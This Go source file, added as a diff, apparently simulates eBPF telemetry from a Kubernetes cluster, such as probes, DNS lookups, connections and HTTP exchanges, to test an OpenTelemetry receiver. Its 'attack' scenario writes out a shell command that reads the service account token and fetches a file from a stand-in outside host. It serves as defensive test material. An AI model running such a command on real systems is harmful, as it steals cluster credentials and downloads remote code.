@@ -1,0 +1,308 @@
+// Copyright The otelcol-tapio Authors
+// SPDX-License-Identifier: Apache-2.0
+
+package simulator // import "github.com/tapio-io/otelcol-tapio/receiver/tapioebpfreceiver/internal/source/simulator"
+
+import (
+	"fmt"
+	"strings"
+
+	"golang.org/x/net/dns/dnsmessage"
+
+	"github.com/tapio-io/otelcol-tapio/receiver/tapioebpfreceiver/internal/event"
+)
+
+const (
+	microsecond = uint64(1e3)
+	millisecond = uint64(1e6)
+
+	connectionRefused = 111 // ECONNREFUSED
+	connectionReset   = 104 // ECONNRESET
+
+	// as wait(2) has it
+	failure = 1 << 8 // exit code 1
+	killed  = 9      // SIGKILL
+
+	wire = 40 * microsecond // one way
+)
+
+// story is something that happens in the world, with its causes before its effects. Each of its
+// methods goes on at a time, and says when it is over.
+type story struct {
+	*world
+	scenarios Scenarios
+	tell      func(family event.Family, time uint64, bytes []byte)
+}
+
+// --- processes ---------------------------------------------------------------------------------
+
+// command is one that somebody runs and that does something while it runs.
+func (s *story) command(parent *process, now uint64, exe string, args []string, status uint32, does func(p *process, now uint64) uint64) uint64 {
+	p := s.start(parent, parent.exe, now)
+	s.tell(event.FamilyProcess, now, forkRecord(p, now))
+	now += s.between(200*microsecond, 2*millisecond)
+	p.exe = exe
+	s.tell(event.FamilyProcess, now, execRecord(p, now, args...))
+	began := now
+	now += s.between(millisecond, 30*millisecond)
+	if does != nil {
+		now = does(p, now)
+	}
+	now += s.between(100*microsecond, 5*millisecond)
+	s.tell(event.FamilyProcess, now, exitRecord(p, now, status, (now-began)/3+1, 1<<20+s.between(0, 30<<20)))
+	return now
+}
+
+// probe is what a kubelet has a container run to see that it lives.
+func (s *story) probe(now uint64) uint64 {
+	p := s.anyPodOfAll()
+	status := uint32(0)
+	if s.chance(s.scenarios.Errors) {
+		status = failure
+	}
+	return s.command(s.shims[p].into(p), now, "/bin/busybox", []string{"sh", "-c", "test -f /tmp/ready"}, status, nil)
+}
+
+// into is the process as one that is about to enter a container.
+func (p *process) into(in *pod) *process {
+	inside := *p
+	inside.cgroup, inside.uid, inside.pod, inside.cwd = in.server.cgroup, in.server.uid, in, "/"
+	return &inside
+}
+
+// job is a cron job outside of any container: a shell, and what it runs.
+func (s *story) job(now uint64) uint64 {
+	return s.command(s.cron, now, "/bin/dash", []string{"/bin/sh", "-c", "/usr/local/bin/backup --keep 7"}, 0, func(shell *process, now uint64) uint64 {
+		return s.command(shell, now, "/usr/bin/curl", []string{"curl", "-sf", "http://" + s.services["frontend"].host() + ":8080/"}, 0, func(curl *process, now uint64) uint64 {
+			return s.visit(curl, s.services["frontend"], now)
+		})
+	})
+}
+
+// crashLoop is a container that does not come up: its program fails, or takes more memory than it may.
+func (s *story) crashLoop(now uint64) uint64 {
+	p := s.anyPodOfAll()
+	parent := s.shims[p].into(p)
+	for range 3 {
+		p.restarts++
+		if s.chance(0.3) {
+			now = s.command(parent, now, p.server.exe, []string{p.server.comm(), "--serve"}, killed, func(victim *process, now uint64) uint64 {
+				s.tell(event.FamilyProcess, now, oomRecord(victim, now))
+				return now
+			})
+		} else {
+			now = s.command(parent, now, p.server.exe, []string{p.server.comm(), "--serve"}, failure, nil)
+		}
+		now += s.between(10*millisecond, 40*millisecond)
+	}
+	return now
+}
+
+// attack begins with a web server that starts a shell, and ends with data that goes out.
+func (s *story) attack(now uint64) uint64 {
+	victim := s.anyPod(s.services["cart"]).server
+	return s.command(victim, now, "/bin/busybox", []string{"sh", "-c", "id; cat /var/run/secrets/kubernetes.io/serviceaccount/token; wget -q http://files.example.net/x"}, 0, func(shell *process, now uint64) uint64 {
+		now = s.command(shell, now, "/bin/busybox", []string{"id"}, 0, nil)
+		now = s.command(shell, now, "/bin/busybox", []string{"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"}, 0, nil)
+		return s.command(shell, now, "/bin/busybox", []string{"wget", "-q", "http://files.example.net/x"}, failure, func(wget *process, now uint64) uint64 {
+			outside := ipv4(203, 0, 113, 66)
+			now = s.ask(wget, now, "files.example.net", dnsmessage.RCodeSuccess, outside)
+			c := s.connect(wget, nil, endpoint{address: outside, port: 80}, &now)
+			return s.close(c, now+s.between(10*millisecond, 50*millisecond))
+		})
+	})
+}
+
+// --- names -------------------------------------------------------------------------------------
+
+// lookup of a service. A resolver that tries its search list first asks for three names in vain.
+func (s *story) lookup(p *process, of *service, now uint64) uint64 {
+	full := of.host() + ".svc.cluster.local"
+	if p.pod != nil && s.chance(s.scenarios.SearchLists) {
+		for _, suffix := range []string{p.pod.namespace + ".svc.cluster.local", "svc.cluster.local", "cluster.local"} {
+			if suffix == "svc.cluster.local" {
+				return s.ask(p, now, full, dnsmessage.RCodeSuccess, of.clusterAddress)
+			}
+			now = s.ask(p, now, of.host()+"."+suffix, dnsmessage.RCodeNameError)
+		}
+	}
+	return s.ask(p, now, full, dnsmessage.RCodeSuccess, of.clusterAddress)
+}
+
+// nxdomainStorm is a program that asks for a name that does not exist, again and again.
+func (s *story) nxdomainStorm(now uint64) uint64 {
+	p := s.anyPodOfAll().server
+	name := "gone-" + s.suffix(5) + "." + p.pod.namespace
+	for range 4 {
+		for _, suffix := range []string{p.pod.namespace + ".svc.cluster.local", "svc.cluster.local", "cluster.local"} {
+			now = s.ask(p, now, name+"."+suffix, dnsmessage.RCodeNameError)
+		}
+		now = s.ask(p, now, name, dnsmessage.RCodeNameError) + s.between(300*millisecond, 500*millisecond)
+	}
+	return now
+}
+
+// ask is a query and its answer over a socket of its own, and the end of that.
+func (s *story) ask(p *process, now uint64, name string, code dnsmessage.RCode, answers ...[16]byte) uint64 {
+	coredns := s.anyPod(s.services["coredns"])
+	c := &connection{client: p, server: coredns.server, protocol: event.ProtocolUDP, opened: now, established: now,
+		from: s.local(p), to: coredns.endpoint(53)}
+	id, socket := uint16(s.random.Uint32()), s.random.Uint64()>>1
+	query, answer := packDNS(id, name, false, 0), packDNS(id, name, true, code, answers...)
+	s.tell(event.FamilyDNS, now, dnsRecord(c, socket, now, true, query))
+	now += s.between(150*microsecond, 4*millisecond)
+	s.tell(event.FamilyDNS, now, dnsRecord(c, socket, now, false, answer))
+	c.sent, c.received = uint64(len(query)), uint64(len(answer))
+	now += s.between(10*microsecond, 100*microsecond)
+	s.tell(event.FamilyNetwork, now, closeRecord(c, p, event.RoleClient, now))
+	return now
+}
+
+func (s *story) local(p *process) endpoint {
+	if p.pod != nil {
+		return p.pod.endpoint(s.port())
+	}
+	return endpoint{address: ipv4(192, 0, 2, 10), port: s.port(), netns: hostNetns}
+}
+
+// --- connections -------------------------------------------------------------------------------
+
+// connect a process to a server, nil if that is not on this node.
+func (s *story) connect(p, server *process, to endpoint, now *uint64) *connection {
+	c := &connection{client: p, server: server, protocol: event.ProtocolTCP, opened: *now, from: s.local(p), to: to,
+		sequence: s.random.Uint32(), acknowledged: s.random.Uint32(), rtt: uint32(s.between(40, 900))}
+	*now += uint64(c.rtt) * microsecond
+	c.established = *now
+	s.tell(event.FamilyNetwork, *now, connectRecord(c, *now, 0))
+	return c
+}
+
+func (s *story) close(c *connection, now uint64) uint64 {
+	s.tell(event.FamilyNetwork, now, closeRecord(c, c.client, event.RoleClient, now))
+	now += uint64(c.rtt) * microsecond
+	if c.server != nil {
+		s.tell(event.FamilyNetwork, now, closeRecord(c, c.server, event.RoleServer, now))
+	}
+	return now
+}
+
+// work is a connection of which only the bytes are seen, as a database's.
+func (s *story) work(p *process, with *service, now uint64) uint64 {
+	server := s.anyPod(with)
+	c := s.connect(p, server.server, server.endpoint(with.port), &now)
+	c.sent, c.received = 40+s.between(0, 4000), 20+s.between(0, 200_000)
+	return s.close(c, now+s.between(millisecond, 20*millisecond))
+}
+
+// refused is a connection to where nobody listens.
+func (s *story) refused(now uint64) uint64 {
+	p, to := s.anyPodOfAll().server, s.anyPodOfAll()
+	c := &connection{client: p, protocol: event.ProtocolTCP, opened: now, from: s.local(p), to: to.endpoint(8443)}
+	now += s.between(30*microsecond, 300*microsecond)
+	s.tell(event.FamilyNetwork, now, connectRecord(c, now, connectionRefused))
+	return now
+}
+
+// noisyNeighbor is one pod that connects without end.
+func (s *story) noisyNeighbor(now uint64) uint64 {
+	p := s.anyPod(s.services["catalog"]).server
+	for range 40 {
+		now = s.work(p, s.services["redis"], now)
+	}
+	return now
+}
+
+// --- requests ----------------------------------------------------------------------------------
+
+// visit is a request from the beginning: the name, the connection, the exchange, the end.
+func (s *story) visit(p *process, to *service, now uint64) uint64 {
+	now = s.lookup(p, to, now)
+	server := s.anyPod(to)
+	c := s.connect(p, server.server, server.endpoint(to.port), &now)
+	now = s.request(c, to, now)
+	return s.close(c, now+s.between(100*microsecond, 10*millisecond))
+}
+
+// kept is a request over a connection that was there before and stays.
+func (s *story) kept(now uint64) uint64 {
+	to := s.services[entrances[s.random.IntN(len(entrances))]]
+	server := s.anyPod(to)
+	p := s.anyPodOfAll().server
+	c := &connection{client: p, server: server.server, protocol: event.ProtocolTCP, from: s.local(p), to: server.endpoint(to.port),
+		sequence: s.random.Uint32(), acknowledged: s.random.Uint32()}
+	return s.exchange(c, to, now, nil)
+}
+
+// entrances are the services that speak HTTP.
+var entrances = []string{"frontend", "catalog", "cart", "checkout", "payment"}
+
+// request that the server answers with the help of others.
+func (s *story) request(c *connection, to *service, now uint64) uint64 {
+	return s.exchange(c, to, now, func(now uint64) uint64 {
+		for _, name := range to.calls {
+			if !s.chance(0.5) {
+				continue
+			}
+			if called := s.services[name]; called.http {
+				now = s.visit(c.server, called, now)
+			} else {
+				now = s.work(c.server, called, now)
+			}
+		}
+		return now
+	})
+}
+
+// exchange is a request and its response; serve is what the server does meanwhile.
+func (s *story) exchange(c *connection, to *service, now uint64, serve func(now uint64) uint64) uint64 {
+	x := &exchange{
+		method: "GET", host: fmt.Sprintf("%s:%d", to.host(), to.port), agent: c.client.comm() + "/1.0",
+		target: s.target(to), start: now, status: 200, responseBody: s.between(100, 60_000),
+		sequence: c.sequence, acknowledged: c.acknowledged,
+	}
+	if s.chance(0.2) {
+		x.method, x.status, x.requestBody, x.responseBody = "POST", 201, s.between(20, 4000), s.between(2, 300)
+	}
+	now += wire + s.between(200*microsecond, 8*millisecond)
+	if serve != nil {
+		now = serve(now)
+	}
+	failed := s.chance(s.scenarios.Errors)
+	if failed {
+		s.fail(x)
+	}
+	x.first = now + wire
+	x.end = x.first + s.between(10*microsecond, millisecond)
+	s.tell(event.FamilyHTTP, x.end-wire, exchangeRecord(c, x, c.server, event.RoleServer, wire))
+	s.tell(event.FamilyHTTP, x.end, exchangeRecord(c, x, c.client, event.RoleClient, 0))
+	c.sent += uint64(len(x.head())) + x.requestBody
+	c.received += 160 + x.responseBody
+	c.sequence += uint32(len(x.head())) + uint32(x.requestBody)
+	c.acknowledged += 160 + uint32(x.responseBody)
+	if failed && x.status >= 500 && x.method == "GET" {
+		return s.exchange(c, to, x.end+s.between(millisecond, 50*millisecond), nil) // once more, and maybe again
+	}
+	return x.end
+}
+
+func (s *story) fail(x *exchange) {
+	x.responseBody = 0
+	switch s.random.IntN(4) {
+	case 0:
+		x.status, x.responseBody = 404, 19
+	case 1:
+		x.status = 503
+	case 2:
+		x.status = 500
+	default:
+		x.status, x.errno = 0, connectionReset
+	}
+}
+
+func (s *story) target(of *service) string {
+	route := of.routes[s.random.IntN(len(of.routes))]
+	if strings.Contains(route, "%d") {
+		return fmt.Sprintf(route, 1+s.random.IntN(500))
+	}
+	return route
+}
